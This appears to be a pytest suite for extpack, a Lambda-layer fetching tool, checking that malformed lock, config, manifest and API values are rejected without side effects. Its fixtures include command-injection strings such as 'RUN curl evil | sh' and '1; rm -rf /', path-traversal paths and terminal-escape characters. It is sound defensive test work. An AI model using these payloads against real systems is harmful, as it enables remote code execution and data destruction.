"""Inputs extpack does not trust, checked by shape where they are read (issue 13, class 1).

The lock and the config are edited in pull requests, the manifest sits in a work tree
anyone can write, and the Lambda API endpoint can lie. A local file whose field has the
wrong shape is exit 2 naming the file and the field; an API answer that does is exit 3.
Either way nothing else happens: no file is touched, no request follows, the stage and
the lock stay as they were.
"""

from __future__ import annotations

import base64
import json
import os

import make_layers
import pytest
from conftest import tree_snapshot
from failure_checks import assert_fails
from lambda_server import OMIT

ACCOUNT = "123456789012"


def _published(fake_lambda, name="demo"):
    return fake_lambda.add_layer(name, make_layers.build("demo-extension.zip"))


def _fetched(fake_lambda, run_extpack, name="demo"):
    """A layer fetched once: a stage, a lock and a cached blob to attack."""
    layer = _published(fake_lambda, name)
    run_extpack("fetch", layer.arn, check=True)
    return layer


# --------------------------------------------------------------------------- the lock


@pytest.mark.parametrize("frozen", [False, True], ids=["fetch", "frozen"])
@pytest.mark.parametrize("spelling", ["absolute", "dotdot"])
def test_a_lock_sha256_that_is_a_path_deletes_nothing(fake_lambda, run_extpack, tmp_path, frozen, spelling):
    layer = _fetched(fake_lambda, run_extpack)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    # The cache path is CACHE/blobs/sha256/<sha256>: both spellings name the victim.
    hostile = str(victim) if spelling == "absolute" else "../../../victim.txt"
    lock_path = tmp_path / "extpack.lock"
    lock = json.loads(lock_path.read_text())
    lock["layers"][0]["sha256"] = hostile
    lock_path.write_text(json.dumps(lock))
    (tmp_path / ".extpack" / "manifest.json").unlink()  # no fast path: the fetch must look in the cache
    before = tree_snapshot(tmp_path)
    fake_lambda.clear_requests()

    result = run_extpack("fetch", layer.arn, *(["--frozen"] if frozen else []))

    line = assert_fails(result, 2, names="lock file extpack.lock")
    assert "layers[0].sha256" in line and "64 lower-case hex" in line
    assert victim.read_text() == "precious\n"
    assert tree_snapshot(tmp_path) == before
    assert fake_lambda.requests == []


HOSTILE_LOCK_FIELDS = {
    "sha256-upper-case": ("sha256", "A" * 64),
    "sha256-short": ("sha256", "a" * 63),
    "size-negative": ("size", -1),
    "size-text": ("size", "12"),
    "size-boolean": ("size", True),
    "kind-unknown": ("kind", "rsync"),
    "arn-newline": ("arn", f"arn:aws:lambda:us-east-1:{ACCOUNT}:layer:demo:1\nRUN curl evil | sh"),
    "arn-other-layer": ("arn", f"arn:aws:lambda:us-east-1:{ACCOUNT}:layer:other:1"),
    "arn-other-version": ("arn", f"arn:aws:lambda:us-east-1:{ACCOUNT}:layer:demo:2"),
    "version-text": ("version", "1"),
    "version-zero": ("version", 0),
    "source-escape": ("source", "arn:aws:lambda:us-east-1:123456789012:layer:demo:1\x1b[2J"),
    "architectures-unknown": ("architectures", ["x86_64\nwarning: all good"]),
}


@pytest.mark.parametrize("field,value", list(HOSTILE_LOCK_FIELDS.values()), ids=list(HOSTILE_LOCK_FIELDS))
def test_a_lock_field_of_the_wrong_shape_is_exit_2_naming_file_and_field(fake_lambda, run_extpack, tmp_path,
                                                                         field, value):
    layer = _fetched(fake_lambda, run_extpack)
    lock_path = tmp_path / "extpack.lock"
    lock = json.loads(lock_path.read_text())
    lock["layers"][0][field] = value
    lock_path.write_text(json.dumps(lock))
    before = tree_snapshot(tmp_path)
    fake_lambda.clear_requests()

    for args in (["fetch", layer.arn], ["fetch", "--frozen", layer.arn], ["lock", layer.arn]):
        line = assert_fails(run_extpack(*args), 2, names="lock file extpack.lock")
        assert f"layers[0].{field}" in line, line
        assert "\x1b" not in line
    assert tree_snapshot(tmp_path) == before
    assert fake_lambda.requests == []


# --------------------------------------------------------------------------- the Lambda API


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


HOSTILE_ANSWERS = {
    "arn-of-another-layer": {"LayerVersionArn": f"arn:aws:lambda:us-east-1:{ACCOUNT}:layer:other:1"},
    "arn-of-another-version": {"LayerVersionArn": f"arn:aws:lambda:us-east-1:{ACCOUNT}:layer:demo:7"},
    "arn-with-newline": {"LayerVersionArn": f"arn:aws:lambda:us-east-1:{ACCOUNT}:layer:demo:1\nRUN curl evil|sh"},
    "arn-missing": {"LayerVersionArn": OMIT},
    "version-other": {"Version": 2},
    "version-not-a-number": {"Version": "one"},
    "code-size-negative": {"Content.CodeSize": -5},
    "code-size-not-a-number": {"Content.CodeSize": "lots"},
    "code-size-missing": {"Content.CodeSize": OMIT},
    "code-sha256-short": {"Content.CodeSha256": _b64(b"\x01" * 31)},
    "code-sha256-hex": {"Content.CodeSha256": "ab" * 32},
    "location-file-url": {"Content.Location": "file:///etc/passwd"},
    "location-plain-http": {"Content.Location": "http://example.com/layer.zip"},
    "location-newline": {"Content.Location": "https://example.com/a\nb"},
    "architectures-unknown": {"CompatibleArchitectures": ["x86_64", "sparc\x1b[31m"]},
    "architectures-not-a-list": {"CompatibleArchitectures": "x86_64"},
}


UNPARSABLE = {"Version", "CodeSize"}


@pytest.mark.parametrize("lies", list(HOSTILE_ANSWERS.values()), ids=list(HOSTILE_ANSWERS))
def test_an_api_answer_of_the_wrong_shape_is_exit_3_and_nothing_is_downloaded(fake_lambda, run_extpack, tmp_path,
                                                                              lies):
    layer = _published(fake_lambda)
    layer.answer.update(lies)

    result = run_extpack("fetch", layer.arn)

    line = assert_fails(result, 3, names=layer.arn)
    member = next(iter(lies)).rpartition(".")[2]
    # botocore reads numbers itself: a Version of "one" fails in its parser, unnamed.
    assert (member if member not in UNPARSABLE else "answer is not valid") in line, line
    assert "\x1b" not in line
    assert fake_lambda.download_calls == []
    assert not (tmp_path / "extpack.lock").exists() and not (tmp_path / ".extpack").exists()


def test_a_listed_version_of_another_layer_is_exit_3(fake_lambda, run_extpack, tmp_path):
    # Published before arm64 existed: no CompatibleArchitectures, as AWS answers for those.
    layer = fake_lambda.add_layer("old", make_layers.build("demo-extension.zip"), architectures=())
    layer.list_answer["LayerVersionArn"] = f"arn:aws:lambda:us-east-1:{ACCOUNT}:layer:other:1"

    line = assert_fails(run_extpack("fetch", layer.layer_arn), 3, names=layer.layer_arn)

    assert "LayerVersionArn" in line
    assert fake_lambda.calls("GetLayerVersionByArn") == [] and fake_lambda.download_calls == []
    assert not (tmp_path / "extpack.lock").exists()
    # The honest answer is accepted: the checks do not refuse what AWS really sends.
    layer.list_answer.clear()
    run_extpack("fetch", layer.layer_arn, check=True)
    lock = json.loads((tmp_path / "extpack.lock").read_text())
    assert lock["layers"][0]["arn"] == layer.arn and lock["layers"][0]["sha256"] == layer.sha256_hex


def test_a_listed_version_that_is_not_an_integer_is_exit_3(fake_lambda, run_extpack, tmp_path):
    layer = _published(fake_lambda)
    layer.list_answer["Version"] = "1; rm -rf /"

    line = assert_fails(run_extpack("lock", layer.layer_arn), 3, names=layer.layer_arn)

    assert "answer is not valid" in line
    assert not (tmp_path / "extpack.lock").exists()


# --------------------------------------------------------------------------- the config


HOSTILE_CONFIG = {
    "base-newline": ('base = "alpine\\nRUN curl evil | sh"', "base"),
    "layers-escape": ('layers = ["demo.zip\\u001b[2J"]', "layers"),
    "stage-dir-newline": ('stage-dir = "st\\nage"', "stage-dir"),
    "platform-control": ('platform = "linux/amd64\\r"', "platform"),
    "arch-unknown": ('arch = "sparc"', "arch"),
    "template-bidi": ('template = "aws-base\\u202e"', "template"),
}


@pytest.mark.parametrize("line,key", list(HOSTILE_CONFIG.values()), ids=list(HOSTILE_CONFIG))
def test_a_config_value_with_a_control_character_is_exit_2_naming_file_and_key(run_extpack, tmp_path, line, key):
    (tmp_path / "extpack.toml").write_text(line + "\n")

    for command in (["fetch"], ["render"], ["ls"]):
        error = assert_fails(run_extpack(*command), 2, names="extpack.toml")
        assert repr(key) in error, error
        assert "\x1b" not in error and "\r" not in error and "\u202e" not in error


# --------------------------------------------------------------------------- the manifest


HOSTILE_MANIFEST = {
    "layer-arn-newline": (lambda m: m["layers"][0].__setitem__(
        "arn", m["layers"][0]["arn"] + "\nRUN curl evil | sh"), "layers[0].arn"),
    "layer-source-newline": (lambda m: m["layers"][0].__setitem__("source", "x\nRUN id"), "layers[0].source"),
    "layer-sha256-short": (lambda m: m["layers"][0].__setitem__("sha256", "abc"), "layers[0].sha256"),
    "file-path-dotdot": (lambda m: m["files"][0].__setitem__("path", "../../etc/passwd"), "files[0].path"),
    "file-path-absolute": (lambda m: m["files"][0].__setitem__("path", "/etc/passwd"), "files[0].path"),
    "file-path-newline": (lambda m: m["files"][0].__setitem__("path", "a\nb"), "files[0].path"),
    "file-type-unknown": (lambda m: m["files"][0].__setitem__("type", "device"), "files[0].type"),
    "file-size-negative": (lambda m: m["files"][-1].__setitem__("size", -1), "size"),
    "arch-unknown": (lambda m: m.__setitem__("arch", "x86_64\nRUN id"), "arch"),
}


@pytest.mark.parametrize("edit,field", list(HOSTILE_MANIFEST.values()), ids=list(HOSTILE_MANIFEST))
def test_a_manifest_field_of_the_wrong_shape_is_exit_2_naming_file_and_field(fake_lambda, run_extpack, tmp_path,
                                                                             edit, field):
    layer = _fetched(fake_lambda, run_extpack)
    manifest_path = tmp_path / ".extpack" / "manifest.json"
    good = manifest_path.read_text()
    manifest = json.loads(good)
    edit(manifest)
    manifest_path.write_text(json.dumps(manifest))
    before = tree_snapshot(tmp_path)

    for command in (["render", "--output", "-"], ["ls"], ["verify", "--no-cache"]):
        line = assert_fails(run_extpack(*command), 2, names=f"{os.path.join('.extpack', 'manifest.json')}")
        assert field in line, line
    assert tree_snapshot(tmp_path) == before
    # The stage is fetch's own output: a damaged manifest there is replaced, not obeyed.
    run_extpack("fetch", layer.arn, check=True)
    assert manifest_path.read_text() == good
    run_extpack("render", "--output", "-", check=True)
